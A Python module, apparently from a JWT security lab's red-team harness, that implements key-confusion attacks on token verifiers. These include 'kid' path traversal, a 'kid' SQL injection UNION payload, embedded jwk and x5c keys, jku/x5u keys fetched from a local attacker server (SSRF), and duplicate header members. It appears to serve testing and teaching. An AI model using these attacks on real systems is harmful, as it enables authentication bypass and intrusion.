"""Let a token's header choose the key it is checked with: a file, a row, its own key, one that is fetched."""

import contextlib
import hmac
import json
import secrets
from collections.abc import Callable, Iterable, Iterator
from typing import Any

import jwt
import trustme
from cryptography.hazmat.primitives.asymmetric.ec import EllipticCurvePrivateKey
from fastapi import FastAPI, Response

from authlab.encoding import b64url_encode
from authlab.jws import take_apart
from authlab.redteam.attack import Attack
from authlab.redteam.evidence import Evidence, told
from authlab.redteam.presenting import own_token, present
from authlab.redteam.target import Target
from authlab.server import Server

_FOLDERS = ("", "web/", "static/", "public/")
_PLACES = [f"{'../' * up}{folder}style.css" for up in range(4) for folder in _FOLDERS]


def kid_as_a_path(target: Target) -> Evidence:
    """Name the style sheet that the target serves to everybody, or a file that is empty, as the key."""
    own, sheet = own_token(target), target.ask("/style.css").content
    files = [(place, sheet) for place in _PLACES] + [("../" * 12 + "dev/null", b"")]
    return _presented(target, (_mac(own, key, ("kid", kid)) for kid, key in files))


def kid_as_sql(target: Target) -> Evidence:
    """Let the key id end a query's text early, and add a key of one's own to what the query finds."""
    own, key = own_token(target), secrets.token_hex(32)
    kids = [f"{start} UNION SELECT '{key}{end}" for start in ("x'", "0") for end in ("", "'", "' -- ")]
    return _presented(target, (_mac(own, key.encode(), ("kid", kid)) for kid in kids))


def embedded_key(target: Target) -> Evidence:
    """Sign with a key of one's own, and bring its public half along."""
    own, pair = own_token(target), trustme.CA()
    return _presented(target, [_signed(own, pair, jwk=_jwk(pair))])


def fetched_key(target: Target) -> Evidence:
    """Sign with a key of one's own, and say where its public half can be fetched."""
    return _at_a_door(target, "jku", lambda pair: json.dumps({"keys": [_jwk(pair)]}).encode())


def fetched_certificate(target: Target) -> Evidence:
    """Sign with a key of one's own, and say where a certificate for it can be fetched."""
    return _at_a_door(target, "x5u", lambda pair: pair.cert_pem.bytes())


def embedded_certificate(target: Target) -> Evidence:
    """Sign with a key of one's own, and bring along a certificate that nobody else has signed."""
    own, pair = own_token(target), trustme.CA()
    body = "".join(pair.cert_pem.bytes().decode().splitlines()[1:-1])
    return _presented(target, [_signed(own, pair, x5c=[body])])


def duplicate_members(target: Target) -> Evidence:
    """Name two keys: a harmless one for a reader that takes the first, a file for one that takes the last."""
    own, sheet = own_token(target), target.ask("/style.css").content
    kid = str(take_apart(own).header.get("kid", "1"))
    return _presented(target, (_mac(own, sheet, ("kid", kid), ("kid", place)) for place in _PLACES))


def _presented(target: Target, tokens: Iterable[str]) -> Evidence:
    return present(target, "a token signed with a key that its own header chose", tokens)


def _at_a_door(target: Target, member: str, shelf: Callable[[trustme.CA], bytes]) -> Evidence:
    """Present a token that sends its reader to one's own server; a visit alone is an attack too (SSRF)."""
    own, pair = own_token(target), trustme.CA()
    with _door(shelf(pair)) as door:
        token = _signed(own, pair, **{member: f"{door.url}/keys", "kid": "mine"})
        answer = target.ask("/auth/me", token=token)
        visits = len(door.exchanges)
    if visits:
        then = "believed what it found" if answer.status_code == 200 else "then did not believe it"
        return told("alive", f"the server came to the attacker's door, and {then}", answer)
    return _presented(target, [token])


@contextlib.contextmanager
def _door(content: bytes) -> Iterator[Server]:
    """Serve some bytes on this machine."""
    app = FastAPI()
    app.get("/keys")(lambda: Response(content))
    with Server(app, name="the attacker's door") as server:
        yield server


def _jwk(pair: trustme.CA) -> dict[str, Any]:
    private = jwt.algorithms.ECAlgorithm(jwt.algorithms.ECAlgorithm.SHA256).prepare_key(
        pair.private_key_pem.bytes()
    )
    assert isinstance(private, EllipticCurvePrivateKey)
    return {**jwt.algorithms.ECAlgorithm.to_jwk(private.public_key(), as_dict=True), "kid": "mine"}


def _signed(own: str, pair: trustme.CA, **members: Any) -> str:
    """Sign the claims of one's own token with a private key of one's own, and add members to its header."""
    parts = take_apart(own)
    header = {**parts.header, **members, "alg": "ES256"}
    return jwt.encode(json.loads(parts.payload), pair.private_key_pem.bytes(), "ES256", headers=header)


def _mac(own: str, key: bytes, *members: tuple[str, str]) -> str:
    """Sign one's own token anew with any key at all, and put members into its header, also one name twice."""
    header = [(name, value) for name, value in take_apart(own).header.items() if name != "kid"]
    text = ", ".join(f"{json.dumps(name)}: {json.dumps(value)}" for name, value in [*header, *members])
    signed = f"{b64url_encode(f'{{{text}}}'.encode())}.{own.split('.')[1]}"
    return f"{signed}.{b64url_encode(hmac.digest(key, signed.encode(), 'sha256'))}"


_WHY = "A key that the token chooses is a key that whoever wrote the token has: it proves nothing."
ATTACKS = (
    Attack("kid as a path", "12", kid_as_a_path, _WHY),
    Attack("kid as SQL", "12", kid_as_sql, _WHY),
    Attack("an embedded key", "12", embedded_key, _WHY),
    Attack("a fetched key", "12", fetched_key, _WHY),
    Attack("a fetched certificate", "12", fetched_certificate, _WHY),
    Attack("an embedded certificate", "12", embedded_certificate, _WHY),
    Attack("duplicate members", "12", duplicate_members, _WHY),
)
